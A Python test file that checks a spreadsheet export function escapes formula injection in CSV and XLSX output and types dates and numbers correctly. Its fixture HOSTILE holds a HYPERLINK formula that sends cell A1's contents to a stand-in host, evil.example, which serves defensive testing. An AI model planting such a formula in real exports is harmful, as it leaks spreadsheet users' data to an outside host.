"""core/sheets.write_table: the one way exports are written, as CSV or XLSX."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from projectflow.core.sheets import write_table

COLUMNS = ["Name", "Rank", "Submitted at", "Due"]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ROWS = [[HOSTILE, 3, datetime(2026, 6, 1, 11, 30, tzinfo=UTC), date(2026, 6, 5)],
        ["Ada Lovelace", -2, None, None],
        ["+44 7700 900123", 1.5, None, None],
        ["@SUM(A1)\x07", None, None, None]]


def _csv(rows=ROWS):
    text = write_table(COLUMNS, rows, "csv", zone=ZoneInfo("Europe/London")).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _xlsx(rows=ROWS, columns=COLUMNS):
    book = load_workbook(io.BytesIO(write_table(columns, rows, "xlsx", title="Progress",
                                                zone=ZoneInfo("Europe/London"))))
    return book.active


def test_csv_has_the_header_and_neutralised_text():
    header, *rows = _csv()
    assert header == COLUMNS
    assert rows[0][0] == "'" + HOSTILE
    assert rows[2][0] == "'+44 7700 900123"
    assert rows[0][1:] == ["3", "2026-06-01 12:30", "2026-06-05"]  # London summer time
    assert rows[1] == ["Ada Lovelace", "-2", "", ""]  # a negative number is a number, not a formula


def test_xlsx_text_is_text_never_a_formula():
    sheet = _xlsx()
    name = sheet.cell(row=2, column=1)
    assert name.data_type == "s"
    assert name.value == "'" + HOSTILE
    assert not str(name.value).startswith("=")
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    assert sheet.cell(row=5, column=1).value == "'@SUM(A1)"  # a control character XML cannot hold is dropped


def test_xlsx_numbers_and_dates_are_typed():
    sheet = _xlsx()
    assert [c.value for c in sheet[1]] == COLUMNS
    assert sheet.cell(row=2, column=2).value == 3 and sheet.cell(row=2, column=2).data_type == "n"
    assert sheet.cell(row=3, column=2).value == -2 and sheet.cell(row=3, column=2).data_type == "n"
    assert sheet.cell(row=4, column=2).value == 1.5
    assert sheet.cell(row=2, column=3).value == datetime(2026, 6, 1, 12, 30)
    assert sheet.cell(row=2, column=3).is_date
    assert sheet.cell(row=2, column=4).value == datetime(2026, 6, 5)  # openpyxl reads dates back as datetimes
    assert sheet.cell(row=2, column=4).is_date
    assert sheet.cell(row=3, column=3).value is None


def test_xlsx_header_is_frozen_and_columns_are_wide_enough():
    sheet = _xlsx(rows=[row[:2] for row in ROWS], columns=["Name", "=Rank"])
    assert sheet.freeze_panes == "A2"
    assert sheet.title == "Progress"
    assert sheet.cell(row=1, column=2).value == "'=Rank"  # a heading is neutralised too
    assert sheet.column_dimensions["A"].width >= len(HOSTILE)
    assert sheet.column_dimensions["B"].width >= 8


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="No such table format"):
        write_table(COLUMNS, ROWS, "ods")
